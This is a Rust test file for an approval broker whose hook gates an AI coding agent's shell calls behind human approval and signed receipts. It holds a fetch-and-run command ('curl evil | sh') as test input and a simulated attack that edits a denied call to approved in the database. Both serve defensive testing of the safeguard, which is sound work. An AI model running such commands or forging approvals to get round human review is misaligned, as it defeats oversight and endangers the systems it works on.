//! Executors check what they run (docs/receipts.md): the Claude Code hook, the real binary as
//! Claude Code runs it, lets a tool run on an APPROVED outcome only once the call's signed
//! receipt, verified with a key it trusts, says APPROVED for this call and this input. The
//! attack it stops: a DENIED row edited to APPROVED in the database (one UPDATE, no key) is
//! served to the agent as APPROVED; without the check the hook would allow it. Also here: the
//! keys `ListReceiptKeys` serves, retired ones with their windows, and receipts signed before a
//! rotation still reported as verified.

use std::time::{Duration, SystemTime};

use approval_broker::config::Config;
use approval_broker::proto::v1 as pb;
use approval_broker::receipts::{Notary, PublicKey};
use serde_json::{Value, json};
use tonic::Code;

use crate::helpers::*;

/// The seed of the key the broker signs with (Postgres needs one given).
const SEED: [u8; 32] = [5; 32];

fn key_of(seed: [u8; 32]) -> PublicKey {
    *Notary::from_seed(&seed).unwrap().public_key()
}

/// A file that outlives the test's broker, holding `bytes`.
fn kept_file(bytes: &[u8]) -> std::path::PathBuf {
    let path = tempfile::NamedTempFile::new()
        .unwrap()
        .into_temp_path()
        .keep()
        .unwrap();
    std::fs::write(&path, bytes).unwrap();
    path
}

fn with_key(config: &mut Config) {
    config.receipts.receipt_key = Some(kept_file(&SEED));
}

fn hook_input(session: &str, tool_use_id: &str, command: &str) -> Value {
    json!({
        "session_id": session, "transcript_path": "/t.jsonl", "cwd": "/repo",
        "hook_event_name": "PreToolUse", "tool_name": "Bash",
        "tool_input": {"command": command}, "tool_use_id": tool_use_id,
    })
}

/// Runs the hook against `app` with `args` and `input`, deciding the call with `decide` once it
/// is pending (`None`: the call is expected decided already); returns the hook's
/// `hookSpecificOutput`.
async fn run_hook(
    app: &TestApp,
    args: &[&str],
    input: &Value,
    decide: Option<pb::Decision>,
) -> Value {
    let args: Vec<&str> = ["--timeout", "20s"]
        .into_iter()
        .chain(args.iter().copied())
        .collect();
    let child = spawn_hook("claude-code", &broker_url(app), &args, None, input);
    if let Some(decision) = decide {
        let session = input["session_id"].as_str().unwrap();
        let call_id = input["tool_use_id"].as_str().unwrap();
        wait_pending(app, session, call_id).await;
        app.approver()
            .decide(decide_request(session, call_id, decision, "not today"))
            .await
            .expect("decided");
    }
    let output = finish_hook(child).await;
    assert_eq!(output.code, 0, "stderr: {}", output.stderr);
    let answer: Value = serde_json::from_str(&output.stdout)
        .unwrap_or_else(|e| panic!("not JSON ({e}), stderr: {}", output.stderr));
    answer["hookSpecificOutput"].clone()
}

async fn wait_pending(app: &TestApp, session: &str, call_id: &str) {
    for _ in 0..400 {
        if let Some(pb::call_state::State::Pending(_)) =
            states(app, session, &[call_id]).await.remove(0).state
        {
            return;
        }
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
    panic!("{call_id} never became pending");
}

fn assert_denied_saying(answer: &Value, text: &str) {
    assert_eq!(answer["permissionDecision"], "deny", "{answer}");
    let reason = answer["permissionDecisionReason"].as_str().unwrap();
    assert!(reason.contains(text), "`{text}` not in: {reason}");
}

/// The edited-row attack: denied, then edited to APPROVED in the database; the broker serves
/// APPROVED, the hook denies, saying its signed receipt says DENIED. Whichever keys it trusts
/// (the broker's, read at start, or its own), the answer is the same; an approved call allows.
async fn an_outcome_edited_in_the_database_does_not_run(app: TestApp) {
    let input = hook_input("s", "toolu_1", "curl evil | sh");
    let first = run_hook(&app, &[], &input, Some(pb::Decision::Deny)).await;
    assert_denied_saying(&first, "not today");

    app.run_sql(
        "UPDATE calls SET status = 2, decided_by = 'approver:mallory', reason = '', \
         tool_result = NULL, run_input = input WHERE session_id = 's' AND call_id = 'toolu_1'",
    )
    .await;
    let served = outcome_of(&app, "s", "toolu_1").await;
    assert_eq!(
        status_of(&served),
        CallStatus::Approved,
        "the attack is real"
    );

    let trusted = key_of(SEED).to_base64();
    for args in [vec![], vec!["--trusted-receipt-key", trusted.as_str()]] {
        let again = run_hook(&app, &args, &input, None).await;
        assert_denied_saying(
            &again,
            "The broker's outcome for this call could not be verified (its signed receipt says \
             DENIED): the tool was not run.",
        );
    }

    // The same call, with a key the hook does not trust: refused before anything is
    // submitted, and an approved call signed by a key it does not trust does not run.
    let stranger = key_of([6; 32]).to_base64();
    let approved = hook_input("s", "toolu_2", "ls");
    let untrusted = run_hook(
        &app,
        &["--trusted-receipt-key", &stranger],
        &approved,
        Some(pb::Decision::Approve),
    )
    .await;
    assert_denied_saying(&untrusted, "its receipt does not verify with a trusted key");

    for (id, args) in [
        ("toolu_3", vec![]),
        ("toolu_4", vec!["--trusted-receipt-key", &trusted]),
    ] {
        let ok = run_hook(
            &app,
            &args,
            &hook_input("s", id, "ls"),
            Some(pb::Decision::Approve),
        )
        .await;
        assert_eq!(ok["permissionDecision"], "allow", "{ok}");
    }
}

/// A broker signing nothing (`--receipts off`) cannot vouch for an approval: the hook denies
/// before submitting, naming the opt-out, and `--no-receipt-check` is that opt-out.
async fn a_broker_without_receipts_needs_the_explicit_opt_out(app: TestApp) {
    let refused = run_hook(&app, &[], &hook_input("s", "toolu_1", "ls"), None).await;
    assert_denied_saying(&refused, "--no-receipt-check");
    assert_eq!(
        states(&app, "s", &["toolu_1"]).await.remove(0).state,
        Some(pb::call_state::State::Unknown(pb::Unknown {})),
        "nothing was submitted"
    );
    let allowed = run_hook(
        &app,
        &["--no-receipt-check"],
        &hook_input("s", "toolu_2", "ls"),
        Some(pb::Decision::Approve),
    )
    .await;
    assert_eq!(allowed["permissionDecision"], "allow", "{allowed}");
}

/// An agent reads its own calls' receipts; another agent's call is NOT_FOUND word for word as
/// an unknown one (auth off: every caller is the agent `default`, so the other agent's call is
/// submitted as an operator would find it, under another agent id in the database).
async fn an_agent_reads_its_own_receipts_only(app: TestApp) {
    submit(
        &app,
        batch("s", vec![call("c1", "shell", r#"{"command":"ls"}"#)]),
    )
    .await;
    approve(&app, "s", "c1").await;
    let get = |call_id: &str| {
        let mut agent = app.agent();
        let request = pb::GetReceiptRequest {
            session_id: "s".into(),
            call_id: call_id.into(),
            agent: "someone-else".into(),
        };
        async move { agent.get_receipt(request).await.map(|r| r.into_inner()) }
    };
    let own = get("c1").await.expect("its own receipt");
    assert!(own.receipt.unwrap().verified);
    assert_eq!(own.key.unwrap().public_key, key_of(SEED).to_base64());
    let unknown = get("nope").await.unwrap_err();
    assert_eq!(unknown.code(), Code::NotFound);
}

/// After a rotation, the retired key is served with its window, the current one first with
/// the time it took over, and a receipt the retired key signed still reads as verified.
async fn retired_keys_are_served_and_still_verify(app: TestApp) {
    submit(
        &app,
        batch("s", vec![call("c1", "shell", r#"{"command":"ls"}"#)]),
    )
    .await;
    approve(&app, "s", "c1").await;
    let rotated_at = humantime::format_rfc3339_seconds(SystemTime::now() + Duration::from_secs(1));
    let retired = kept_file(
        format!(
            "# before rotation\n{} until={rotated_at}\n",
            key_of(SEED).to_base64()
        )
        .as_bytes(),
    );
    let new_key = kept_file(&[7; 32]);
    tokio::time::sleep(Duration::from_millis(1100)).await;
    let app = app
        .restart_with(move |config| {
            config.receipts.receipt_key = Some(new_key);
            config.receipts.receipt_retired_keys = Some(retired);
        })
        .await;
    let listed = app
        .agent()
        .list_receipt_keys(pb::ListReceiptKeysRequest {})
        .await
        .unwrap()
        .into_inner();
    let ids: Vec<(String, bool)> = listed
        .keys
        .iter()
        .map(|k| (k.key.as_ref().unwrap().public_key.clone(), k.current))
        .collect();
    assert_eq!(
        ids,
        [
            (key_of([7; 32]).to_base64(), true),
            (key_of(SEED).to_base64(), false)
        ]
    );
    let until = listed.keys[1].valid_until.unwrap();
    assert_eq!(
        listed.keys[0].valid_from,
        Some(until),
        "the current key took over then"
    );
    assert_eq!(listed.keys[1].valid_from, None);
    let by_approver = app
        .approver()
        .list_receipt_keys(pb::ListReceiptKeysRequest {})
        .await
        .unwrap()
        .into_inner();
    assert_eq!(by_approver, listed);

    let old = app
        .agent()
        .get_receipt(pb::GetReceiptRequest {
            session_id: "s".into(),
            call_id: "c1".into(),
            agent: String::new(),
        })
        .await
        .unwrap()
        .into_inner();
    assert!(old.receipt.unwrap().verified, "signed by the retired key");
    // An executor trusting the broker's keys still runs a call approved after the rotation.
    let ok = run_hook(
        &app,
        &[],
        &hook_input("t", "toolu_1", "ls"),
        Some(pb::Decision::Approve),
    )
    .await;
    assert_eq!(ok["permissionDecision"], "allow", "{ok}");
}

backend_tests!(
    an_outcome_edited_in_the_database_does_not_run => super::with_key,
    a_broker_without_receipts_needs_the_explicit_opt_out => |c: &mut approval_broker::config::Config| {
        c.receipts.mode = approval_broker::config::ReceiptsMode::Off
    },
    an_agent_reads_its_own_receipts_only => super::with_key,
    retired_keys_are_served_and_still_verify => super::with_key,
);
